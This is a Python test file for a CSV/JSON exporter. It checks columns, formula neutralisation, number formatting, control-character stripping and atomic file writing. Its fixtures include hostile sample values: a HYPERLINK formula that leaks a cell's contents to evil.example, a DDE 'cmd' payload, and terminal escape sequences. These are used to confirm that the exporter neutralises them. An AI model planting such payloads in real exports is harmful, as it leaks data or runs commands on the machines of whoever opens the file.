"""The CSV/JSON exporter: columns, formula neutralisation, typed numbers, atomic files."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import stat
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alliance_tui.export import (
    CSV_COLUMNS,
    ExportError,
    escape_formula,
    fact_row,
    facts_to_json,
    write_csv,
    write_csv_stream,
    write_json,
)
from alliance_tui.models import (
    ArticleRef,
    ChangeRole,
    Direction,
    Fact,
    FactNotes,
    Kind,
    Official,
    Qualifier,
    format_number,
)

NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMERIC = {"value", "start", "end"}

# The strings of bad-inputs/16_csv_formula_facts.txt, as an extractor could produce them.
HOSTILE_REF = ArticleRef(
    id="16_csv_formula_facts",
    title='=HYPERLINK("http://evil.example/?leak="&A1,"Source")',
    source="@Test Wire",
    published="2024-03-01",
    url="https://example.org/-a",
)


def make_fact(
    text: str,
    value: float,
    sentence: str,
    *,
    kind: Kind = Kind.MONEY,
    unit: str = "GBP",
    ref: ArticleRef = HOSTILE_REF,
    official: Official | None = None,
    operation: str = "",
    start: int = 0,
    change: ChangeRole = ChangeRole.NONE,
    direction: Direction = Direction.NONE,
    item: str = "",
    claimant: str = "",
    prospective: bool = False,
) -> Fact:
    return Fact(
        change=change,
        direction=direction,
        item=item,
        claimant=claimant,
        prospective=prospective,
        fact_id=f"f{start}-{len(text)}",
        article=ref,
        kind=kind,
        value=value,
        unit=unit,
        qualifier=Qualifier.EXACT,
        metric="other",
        period="",
        official=official,
        operation=operation,
        text=text,
        sentence=sentence,
        start=start,
        end=start + len(text),
    )


def hostile_facts() -> list[Fact]:
    shortfall = (
        "-£4m was the shortfall; revenue fell -40% while costs rose +3.2% and margin was −12%."
    )
    return [
        make_fact(
            "-£4m",
            -4_000_000,
            shortfall,
            official=Official(name="@SUM(1+1)*cmd|' /C calc'!A0", role="-Chief"),
            operation="=Operation Alliance",
            start=120,
        ),
        make_fact("-40%", -40, shortfall, kind=Kind.PERCENT, unit="percent", start=157),
        make_fact("+3.2%", 3.2, shortfall, kind=Kind.PERCENT, unit="percent", start=179),
        make_fact("−12%", -12, shortfall, kind=Kind.PERCENT, unit="percent", start=200),
        make_fact("2+2", 4, "\t=2+2 after a tab", kind=Kind.COUNT, unit="", start=230),
        make_fact("3+3", 6, "\r=3+3 after a CR", kind=Kind.COUNT, unit="", start=250),
        make_fact("1+1", 2, "\n=1+1 after a line feed", kind=Kind.COUNT, unit="", start=260),
        make_fact("1+2", 3, '  =1+2 ;,"=1+2" 5"', kind=Kind.COUNT, unit="", start=280),
        make_fact("+44", 44, "+44 20 7946 0000 is the press office number.", unit="", start=300),
    ]


def read_back(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_columns_are_exactly_the_documented_ones_in_order() -> None:
    assert CSV_COLUMNS == (
        "fact_id",
        "article_id",
        "title",
        "source",
        "published",
        "url",
        "operation",
        "official",
        "official_role",
        "kind",
        "metric",
        "value",
        "unit",
        "qualifier",
        "period",
        "text",
        "sentence",
        "start",
        "end",
        "period_start",
        "period_end",
        "review",
        "note",
        "change",
        "direction",
        "item",
        "claimant",
        "prospective",
    )


def test_row_puts_each_field_in_its_column() -> None:
    fact = make_fact(
        "£4.2m",
        4_200_000,
        "Spending rose by £4.2m.",
        ref=ArticleRef(id="a/b", title="Budget", source="Wire", published="2024-01", url=""),
        official=Official(name="Ian Hussey", role="Detective Superintendent"),
        operation="Operation Alliance",
        start=17,
        change=ChangeRole.CHANGE,
        direction=Direction.UP,
        item="cash",
        claimant="=Cumbria Police",
        prospective=True,
    )
    notes = {
        "f17-5": FactNotes(
            period_start="2023-04-01", period_end="2024-03-31", review="disputed", note="=SUM(A1)"
        )
    }
    row = dict(zip(CSV_COLUMNS, fact_row(fact, notes), strict=True))
    assert row == {
        "fact_id": "f17-5",
        "article_id": "a/b",
        "title": "Budget",
        "source": "Wire",
        "published": "2024-01",
        "url": "",
        "operation": "Operation Alliance",
        "official": "Ian Hussey",
        "official_role": "Detective Superintendent",
        "kind": "money",
        "metric": "other",
        "value": "4200000",
        "unit": "GBP",
        "qualifier": "",
        "period": "",
        "text": "£4.2m",
        "sentence": "Spending rose by £4.2m.",
        "start": "17",
        "end": "22",
        "period_start": "2023-04-01",
        "period_end": "2024-03-31",
        "review": "disputed",
        "note": "'=SUM(A1)",  # a user's note is text like any other: formula-safe
        "change": "change",
        "direction": "up",
        "item": "cash",
        "claimant": "'=Cumbria Police",  # text from an article: formula-safe like the rest
        "prospective": "yes",
    }


def test_file_from_formula_article_has_no_live_formula_and_plain_numbers(tmp_path: Path) -> None:
    target = tmp_path / "facts.csv"
    facts = hostile_facts()
    assert write_csv(facts, target) == len(facts)
    header, *rows = read_back(target)
    assert tuple(header) == CSV_COLUMNS
    assert len(rows) == len(facts)
    for row in rows:
        for column, cell in zip(CSV_COLUMNS, row, strict=True):
            if column in NUMERIC:
                assert NUMBER.match(cell), (column, cell)
            else:
                assert not cell.lstrip(" ").startswith(TRIGGERS), (column, cell)
    values = [row[CSV_COLUMNS.index("value")] for row in rows]
    assert values[:4] == ["-4000000", "-40", "3.2", "-12"]
    units = [row[CSV_COLUMNS.index("unit")] for row in rows]
    assert units[:4] == ["GBP", "percent", "percent", "percent"]
    first = dict(zip(CSV_COLUMNS, rows[0], strict=True))
    assert first["title"] == "'" + HOSTILE_REF.title
    assert first["text"] == "'-£4m"
    assert first["official"].startswith("'@SUM")
    assert first["official_role"] == "'-Chief"
    assert first["operation"] == "'=Operation Alliance"
    assert first["source"] == "'@Test Wire"
    assert first["url"] == "https://example.org/-a"  # a trigger inside a cell is harmless
    cr_row = dict(zip(CSV_COLUMNS, rows[5], strict=True))
    assert cr_row["sentence"] == "'\n=3+3 after a CR"  # \r normalised, then neutralised


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+44", "'+44"),
        ("-£4m", "'-£4m"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=2+2", "'\t=2+2"),
        ("\r=3+3", "'\r=3+3"),
        ("\n=1", "'\n=1"),
        ("  =1+1", "'  =1+1"),
        ("\u3000=1", "'\u3000=1"),
        ("＝1+1", "'＝1+1"),
        ("plain text", "plain text"),
        ("a=1", "a=1"),
        ("−12%", "−12%"),
        ("", ""),
    ],
)
def test_escape_formula(raw: str, escaped: str) -> None:
    assert escape_formula(raw) == escaped


def test_control_characters_are_removed_from_text_cells() -> None:
    nasty = "Costs\x1b]52;c;ZXZpbA==\x07 rose\u202e by \x9b6n£4m\u200b\x00 today\r\nEnd"
    fact = make_fact("£4m", 4_000_000, nasty, ref=ArticleRef(id="x", title="T\x1b[2J"))
    row = dict(zip(CSV_COLUMNS, fact_row(fact), strict=True))
    assert row["sentence"] == "Costs]52;c;ZXZpbA== rose by 6n£4m today\nEnd"
    assert row["title"] == "T[2J"


@given(st.floats(allow_nan=False, allow_infinity=False, min_value=-1e30, max_value=1e30))
def test_every_finite_value_is_written_as_a_plain_number(value: float) -> None:
    fact = make_fact("x", value, "x")
    cell = fact_row(fact)[CSV_COLUMNS.index("value")]
    assert NUMBER.match(cell), cell
    assert cell == format_number(value)


def test_file_has_one_bom_crlf_lines_and_round_trips_embedded_newlines(tmp_path: Path) -> None:
    target = tmp_path / "facts.csv"
    fact = make_fact("£4m", 4_000_000, 'He said "£4m",\nthen left.')
    write_csv([fact], target)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert not raw[3:].startswith(b"\xef\xbb\xbf")
    assert raw[3:].split(b"\r\n", 1)[0] == ",".join(CSV_COLUMNS).encode()
    assert raw.endswith(b"\r\n")
    rows = read_back(target)
    assert rows[1][CSV_COLUMNS.index("sentence")] == 'He said "£4m",\nthen left.'


def test_empty_export_still_writes_the_header(tmp_path: Path) -> None:
    target = tmp_path / "none.csv"
    assert write_csv([], target) == 0
    assert read_back(target) == [list(CSV_COLUMNS)]


def test_stream_has_no_bom_and_the_same_rows() -> None:
    buffer = io.StringIO(newline="")
    assert write_csv_stream(hostile_facts(), buffer) == len(hostile_facts())
    text = buffer.getvalue()
    assert not text.startswith("\ufeff")
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1:] == [fact_row(f) for f in hostile_facts()]


def test_json_is_flat_typed_and_not_formula_escaped() -> None:
    records = json.loads(facts_to_json(hostile_facts()))
    assert [list(r) for r in records] == [list(CSV_COLUMNS)] * len(records)
    first = records[0]
    assert first["value"] == -4_000_000 and isinstance(first["value"], int)
    assert records[2]["value"] == 3.2
    assert first["start"] == 120 and first["end"] == 124
    assert first["title"] == HOSTILE_REF.title
    assert first["official"].startswith("@SUM")


def test_json_file_is_written_like_the_csv_file(tmp_path: Path) -> None:
    target = tmp_path / "facts.json"
    assert write_json(hostile_facts(), target) == len(hostile_facts())
    assert json.loads(target.read_text(encoding="utf-8")) == json.loads(
        facts_to_json(hostile_facts())
    )
    with pytest.raises(ExportError, match="exists"):
        write_json([], target)
    with pytest.raises(RuntimeError):
        write_json(failing_after_one(), target, overwrite=True)
    assert len(json.loads(target.read_text(encoding="utf-8"))) == len(hostile_facts())
    assert os.listdir(tmp_path) == ["facts.json"]


# --- atomic writing -------------------------------------------------------------------


def test_existing_file_is_refused_without_overwrite_and_replaced_with_it(tmp_path: Path) -> None:
    target = tmp_path / "facts.csv"
    target.write_bytes(b"old contents\n")
    with pytest.raises(ExportError, match=r"exists; pass --force to replace it"):
        write_csv(hostile_facts(), target)
    assert target.read_bytes() == b"old contents\n"
    assert os.listdir(tmp_path) == ["facts.csv"]
    write_csv(hostile_facts(), target, overwrite=True)
    assert len(read_back(target)) == 1 + len(hostile_facts())


def test_replacing_keeps_the_permission_bits(tmp_path: Path) -> None:
    target = tmp_path / "facts.csv"
    target.write_text("old")
    target.chmod(0o640)
    write_csv([], target, overwrite=True)
    assert stat.S_IMODE(target.stat().st_mode) == 0o640


def test_new_file_follows_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        write_csv([], tmp_path / "new.csv")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o640


def test_a_new_file_with_review_notes_is_private_and_one_without_follows_the_umask(
    tmp_path: Path,
) -> None:
    facts = hostile_facts()
    noted = {facts[0].fact_id: FactNotes(review="disputed", note="source says 4.1m, not 4.2m")}
    marked = {facts[0].fact_id: FactNotes(review="verified")}
    write_csv(facts, tmp_path / "noted.csv", notes=noted)
    write_json(facts, tmp_path / "noted.json", notes=noted)
    write_csv(facts, tmp_path / "marked.csv", notes=marked)
    assert stat.S_IMODE((tmp_path / "noted.csv").stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "noted.json").stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "marked.csv").stat().st_mode) == 0o666 & ~current_umask()


def current_umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def test_a_killed_exports_leftover_is_removed_by_the_next_export(tmp_path: Path) -> None:
    target = tmp_path / "facts.csv"
    dead = _dead_pid()
    leftover = tmp_path / f".facts.csv.{dead}.k2j4h1.tmp"
    leftover.write_bytes(b"half an export" * 1000)
    other = tmp_path / ".other.csv.1.x.tmp"  # another file's: not ours to remove
    other.write_bytes(b"x")
    write_csv(hostile_facts(), target)
    assert sorted(os.listdir(tmp_path)) == [".other.csv.1.x.tmp", "facts.csv"]


def _dead_pid() -> int:
    child = subprocess.Popen(["true"])
    child.wait()
    return child.pid  # exited and reaped: no process has it now (barring reuse)


def failing_after_one() -> Iterator[Fact]:
    yield hostile_facts()[0]
    raise RuntimeError("extractor blew up mid-export")


def test_exception_mid_export_leaves_old_file_identical_and_no_temp(tmp_path: Path) -> None:
    target = tmp_path / "facts.csv"
    target.write_bytes(b"\xef\xbb\xbfprevious export\r\n")
    with pytest.raises(RuntimeError, match="mid-export"):
        write_csv(failing_after_one(), target, overwrite=True)
    assert target.read_bytes() == b"\xef\xbb\xbfprevious export\r\n"
    assert os.listdir(tmp_path) == ["facts.csv"]


def test_exception_mid_export_creates_nothing_under_a_new_name(tmp_path: Path) -> None:
    with pytest.raises(RuntimeError):
        write_csv(failing_after_one(), tmp_path / "facts.csv")
    assert os.listdir(tmp_path) == []


def test_disk_full_during_export_is_a_one_line_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "facts.csv"
    target.write_bytes(b"previous")

    def no_space(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", no_space)
    with pytest.raises(ExportError) as caught:
        write_csv(hostile_facts(), target, overwrite=True)
    assert "no space left on device" in str(caught.value)
    assert "\n" not in str(caught.value)
    assert target.read_bytes() == b"previous"
    assert os.listdir(tmp_path) == ["facts.csv"]


def test_file_appearing_during_export_is_not_clobbered(tmp_path: Path) -> None:
    target = tmp_path / "facts.csv"

    def racing() -> Iterator[Fact]:
        yield hostile_facts()[0]
        target.write_bytes(b"someone else's file")

    with pytest.raises(ExportError, match="exists"):
        write_csv(racing(), target)
    assert target.read_bytes() == b"someone else's file"
    assert os.listdir(tmp_path) == ["facts.csv"]


def test_missing_folder_is_a_one_line_error(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"does not exist$"):
        write_csv([], tmp_path / "nope" / "facts.csv")


def test_folder_as_target_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="is a folder"):
        write_csv([], tmp_path, overwrite=True)


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_read_only_folder_is_a_one_line_error(tmp_path: Path) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(ExportError, match="permission denied"):
            write_csv([], folder / "facts.csv")
    finally:
        folder.chmod(0o700)


def test_records_and_reviews_are_written_by_the_same_atomic_writer(tmp_path: Path) -> None:
    """`replace_file` (index records, review marks) keeps a replaced file's permissions
    and leaves no temporary file, like an export."""
    from alliance_tui.atomic import replace_file

    target = tmp_path / "reviews.json"
    target.write_text("{}", encoding="utf-8")
    target.chmod(0o640)
    replace_file(target, '{"a": 1}')
    assert target.read_text(encoding="utf-8") == '{"a": 1}'
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert [p.name for p in tmp_path.iterdir()] == ["reviews.json"]


def test_replacing_a_file_with_review_notes_takes_its_readers_away(tmp_path: Path) -> None:
    facts = hostile_facts()
    target = tmp_path / "facts.csv"
    target.write_text("old")
    target.chmod(0o644)
    noted = {facts[0].fact_id: FactNotes(review="disputed", note="ask the press office")}
    write_csv(facts, target, overwrite=True, notes=noted)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_render_says_whether_the_rows_written_hold_a_note() -> None:
    from alliance_tui.export import render

    facts = hostile_facts()
    elsewhere = {"a fact not exported": FactNotes(note="private")}
    assert render(facts, io.StringIO(), elsewhere, "csv") == (len(facts), False)
    noted = {facts[-1].fact_id: FactNotes(note="private")}
    assert render(facts, io.StringIO(), noted, "json") == (len(facts), True)
